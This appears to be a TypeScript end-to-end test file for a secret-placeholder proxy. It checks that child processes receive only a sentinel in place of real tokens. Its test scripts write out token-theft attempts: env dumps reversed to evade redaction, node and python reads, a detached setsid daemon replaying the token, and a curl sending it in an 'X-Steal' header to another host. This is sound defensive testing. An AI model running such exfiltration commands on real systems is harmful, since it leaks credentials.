import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { configYaml, type E2E, makeE2E, until } from '../e2e/helpers.js';
import { ghToken, recipeFile, startTlsApi, type TlsApi } from './helpers.js';

/**
 * `outloop run --placeholders` (and `placeholder: true`) end to end, unsandboxed: the child holds only a
 * sentinel; the proxy ends TLS to the service's host, puts the real value in, and the reply comes back
 * redacted. The local API checks the real credential, so a 200 proves the swap happened on the wire.
 */
const SENTINEL = /ghp_[A-Za-z0-9]{36}/;

describe('placeholder runs (no sandbox)', () => {
  const TOKEN = ghToken();
  let e: E2E;
  let api: TlsApi;
  let other: Server;
  let otherPort: number;
  const otherHits: string[] = [];
  let project: string;
  const env = () => ({ NODE_EXTRA_CA_CERTS: api.caFile });

  beforeAll(async () => {
    e = makeE2E(['acme']);
    project = e.projects.acme!;
    api = await startTlsApi(e.root, TOKEN);
    other = createServer((req, res) => {
      otherHits.push(`${req.url} ${JSON.stringify(req.headers)}`);
      res.end('other\n');
    });
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
    otherPort = (other.address() as { port: number }).port;
    e.writeRecipe('gh', recipeFile('gh', [`127.0.0.1:${api.port}`], 'TOKEN'));
    e.writeRecipe('ghq', recipeFile('ghq', [`127.0.0.1:${api.port}`], 'QTOKEN', ['header', 'query', 'body']));
    e.writeConfig(configYaml(e, {
      acme: [
        'gh:\n  secrets: { TOKEN: "local:acme/token" }\n  run: true\n  placeholder: true',
        'plain:\n  secrets: { TOKEN: "local:acme/token" }\n  run: true',
        'ghq:\n  secrets: { QTOKEN: "local:acme/token" }\n  run: true\n  placeholder: true',
      ].join('\n'),
    }));
    await e.setSecret('local:acme/token', TOKEN);
  });
  afterAll(async () => {
    e?.cleanup();
    await api?.close();
    other?.close();
  });

  const script = (name: string, lines: string[]) => {
    writeFileSync(join(project, name), lines.join('\n') + '\n');
    return name;
  };

  it('curl -H and curl -u reach the API with the real value; the child sees only a sentinel; the echo comes back masked', async () => {
    const s = script('calls.sh', [
      `curl -sS -H "Authorization: Bearer $TOKEN" https://127.0.0.1:${api.port}/bearer`,
      `curl -sS -u "x-access-token:$TOKEN" https://127.0.0.1:${api.port}/basic`,
      'printf "%s" "$TOKEN" > held.txt',
      'printf "held=%s\\n" "$TOKEN"',
    ]);
    const r = await e.cli(['run', '--service', 'gh', '--', 'sh', s], { env: env() });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const lines = r.stdout.trim().split('\n');
    expect(lines[0]).toBe('{"ok":true,"got":"Bearer [REDACTED:TOKEN]"}');
    expect(JSON.parse(lines[1]!)).toMatchObject({ ok: true });
    // Printed, the sentinel is masked like anything shaped like a GitHub token; the file holds it.
    expect(lines).toContain('held=[REDACTED:github-pat]');
    const held = readFileSync(join(project, 'held.txt'), 'utf8');
    expect(held).toMatch(new RegExp(`^${SENTINEL.source}$`));
    expect(held).not.toBe(TOKEN);
    expect(api.seen.at(-2)).toMatchObject({ url: '/bearer', authorization: `Bearer ${TOKEN}` });
    expect(Buffer.from(api.seen.at(-1)!.authorization!.slice(6), 'base64').toString()).toBe(`x-access-token:${TOKEN}`);

    const end = e.audit().at(-1)!;
    expect(end).toMatchObject({ mode: 'run', phase: 'end', decision: 'allow', placeholders: ['TOKEN'], sandbox: 'none', egressEnforced: false });
    expect(end.substitutions).toEqual(expect.arrayContaining([
      { secret: 'TOKEN', host: '127.0.0.1', surface: 'header', count: 1 },
      { secret: 'TOKEN', host: '127.0.0.1', surface: 'basic', count: 1 },
    ]));
    expect((end.egress as { intercepted?: boolean; port: number }[]).filter((x) => x.port === api.port).every((x) => x.intercepted)).toBe(true);
    const audit = readFileSync(join(e.home, 'audit.jsonl'), 'utf8');
    expect(audit).not.toContain(TOKEN);
    expect(audit).not.toContain(held);
  });

  it('the same script without placeholders (the old path) gets the real value: the attack the sentinel stops', async () => {
    const s = script('rev.sh', ['printf "%s" "$TOKEN" | rev; echo']);
    const r = await e.cli(['run', '--service', 'plain', '--', 'sh', s], { env: env() });
    expect(r.stdout.trim()).toBe([...TOKEN].reverse().join(''));
  });

  it('the attacks yield only the sentinel: env, eval, declare -p | rev, node, python, a file, a setsid daemon', async () => {
    const out = join(project, 'stolen.txt');
    const late = join(project, 'late.txt');
    const s = script('attacks.sh', [
      'env | grep "^TOKEN=" | rev',
      'eval "printf \'eval=%s\\n\' \\"\\$TOKEN\\"" | rev',
      'declare -p TOKEN 2>/dev/null | rev || set | grep ^TOKEN= | rev',
      'node -e "console.log(\'node=\' + [...process.env.TOKEN].reverse().join(\'\'))"',
      'python3 -c "import os; print(\'py=\' + os.environ[\'TOKEN\'][::-1])"',
      `printf "%s" "$TOKEN" > ${JSON.stringify(out)}`,
      // A daemon in its own session outlives the run, then tries the held value through the dead proxy and directly.
      `setsid sh -c 'echo up > ${late}.up; sleep 2; printf "%s" "$TOKEN" > ${late}.tok; curl -sS -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $TOKEN" https://127.0.0.1:${api.port}/late > ${late}.proxy 2>${late}.err1; curl -sS --noproxy "*" -k -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $TOKEN" https://127.0.0.1:${api.port}/late-direct > ${late}.tmp 2>${late}.err2; mv ${late}.tmp ${late}' </dev/null >/dev/null 2>&1 &`,
      // Until the daemon has its own session: the run's end kills what is left in the command's group.
      `while [ ! -e ${late}.up ]; do sleep 0.1; done`,
    ]);
    const r = await e.cli(['run', '--service', 'gh', '--', 'bash', s], { env: env() });
    expect(r.status).toBe(0);
    const rev = [...TOKEN].reverse().join('');
    expect(r.stdout).not.toContain(rev);
    expect(r.stdout).not.toContain(TOKEN);
    const lines = r.stdout.trim().split('\n');
    const unrev = (l: string) => [...l].reverse().join('');
    expect(unrev(lines[0]!)).toMatch(new RegExp(`^TOKEN=${SENTINEL.source}$`));
    expect(unrev(lines.find((l) => l.endsWith('=lave'))!)).toMatch(new RegExp(`^eval=${SENTINEL.source}$`));
    expect(lines.some((l) => SENTINEL.test(unrev(l)) && unrev(l).includes('TOKEN='))).toBe(true);
    expect(unrev(lines.find((l) => l.startsWith('node='))!.slice(5))).toMatch(SENTINEL);
    expect(unrev(lines.find((l) => l.startsWith('py='))!.slice(3))).toMatch(SENTINEL);
    const file = readFileSync(out, 'utf8');
    expect(file).toMatch(SENTINEL);
    expect(file).not.toBe(TOKEN);

    await until(() => existsSync(late), 'the daemon to finish', 20_000).catch((err) => {
      for (const x of ['.up', '.tok', '.proxy', '.err1', '.tmp', '.err2']) console.log(x, existsSync(late + x) && readFileSync(late + x, 'utf8'));
      throw err;
    });
    expect(readFileSync(`${late}.tok`, 'utf8')).toMatch(SENTINEL);
    // Through the proxy: it is gone with the run (curl cannot connect: 000). Directly: the API refuses the sentinel.
    expect(readFileSync(`${late}.proxy`, 'utf8')).toBe('000');
    expect(readFileSync(late, 'utf8')).toBe('401');
    expect(api.seen.at(-1)).toMatchObject({ url: '/late-direct', authorization: `Bearer ${readFileSync(`${late}.tok`, 'utf8')}` });
  });

  it('a sentinel from one run is worth nothing in another run', async () => {
    const kept = join(project, 'kept.txt');
    await e.cli(['run', '--service', 'gh', '--', 'sh', script('keep.sh', [`printf "%s" "$TOKEN" > ${kept}`])], { env: env() });
    const old = readFileSync(kept, 'utf8');
    expect(old).toMatch(SENTINEL);
    const s = script('reuse.sh', [`curl -sS -H "Authorization: Bearer $(cat ${kept})" https://127.0.0.1:${api.port}/reuse`]);
    const r = await e.cli(['run', '--service', 'gh', '--', 'sh', s], { env: env() });
    expect(JSON.parse(r.stdout.trim())).toMatchObject({ ok: false });
    expect(api.seen.at(-1)).toMatchObject({ url: '/reuse', authorization: `Bearer ${old}` });
  });

  it('a sentinel sent to another host is refused (placeholder_wrong_host), not replaced, and recorded masked', async () => {
    const s = script('exfil.sh', [`curl -sS -w "\\n%{http_code}\\n" -H "X-Steal: $TOKEN" http://127.0.0.1:${otherPort}/exfil`, 'printf "%s" "$TOKEN" > held2.txt']);
    const r = await e.cli(['run', '--service', 'gh', '--', 'sh', s], { env: env() });
    expect(r.stdout).toContain('placeholder_wrong_host');
    expect(r.stdout).toContain('\n403\n');
    expect(otherHits).toEqual([]);
    const held = readFileSync(join(project, 'held2.txt'), 'utf8');
    expect(held).toMatch(SENTINEL);
    const end = e.audit().at(-1)!;
    expect(end.egress).toEqual(expect.arrayContaining([expect.objectContaining({ port: otherPort, decision: 'deny', reason: expect.stringContaining('placeholder_wrong_host') })]));
    expect(JSON.stringify(end)).not.toContain(held);
  });

  it('query and body only where the recipe file lists them', async () => {
    const s = script('qb.sh', [
      `curl -sS "https://127.0.0.1:${api.port}/q?key=$QTOKEN"`,
      `curl -sS -H "content-type: application/json" -d "{\\"key\\":\\"$QTOKEN\\"}" https://127.0.0.1:${api.port}/b`,
      // gh's TOKEN lists no query: the sentinel goes as is, and the API refuses it.
    ]);
    const r = await e.cli(['run', '--service', 'ghq', '--', 'sh', s], { env: env() });
    expect(r.stdout.trim().split('\n').map((l) => JSON.parse(l).ok)).toEqual([true, true]);
    expect(api.seen.at(-2)!.url).toBe(`/q?key=${TOKEN}`);
    expect(api.seen.at(-1)!.body).toBe(`{"key":"${TOKEN}"}`);
    expect(e.audit().at(-1)!.substitutions).toEqual(expect.arrayContaining([
      { secret: 'QTOKEN', host: '127.0.0.1', surface: 'query', count: 1 },
      { secret: 'QTOKEN', host: '127.0.0.1', surface: 'body', count: 1 },
    ]));
    const q = await e.cli(['run', '--service', 'gh', '--', 'sh', script('q2.sh', [`curl -sS "https://127.0.0.1:${api.port}/q?key=$TOKEN"`])], { env: env() });
    expect(JSON.parse(q.stdout.trim()).ok).toBe(false);
    expect(api.seen.at(-1)!.url).not.toContain(TOKEN);
  });

  it('an upstream whose certificate does not verify is refused (upstream_unverified) and recorded', async () => {
    const s = script('unverified.sh', [`curl -sS -w "\\n%{http_code}\\n" -H "Authorization: Bearer $TOKEN" https://127.0.0.1:${api.port}/nope`]);
    const before = api.seen.length;
    // No NODE_EXTRA_CA_CERTS for outloop: the API's test CA is not trusted.
    const r = await e.cli(['run', '--service', 'gh', '--', 'sh', s]);
    expect(r.stdout).toContain('upstream_unverified');
    expect(r.stdout).toContain('\n502\n');
    expect(api.seen.length).toBe(before);
    expect(e.audit().at(-1)!.egress).toEqual(expect.arrayContaining([expect.objectContaining({ port: api.port, decision: 'deny', reason: expect.stringContaining('upstream_unverified') })]));
  });
});
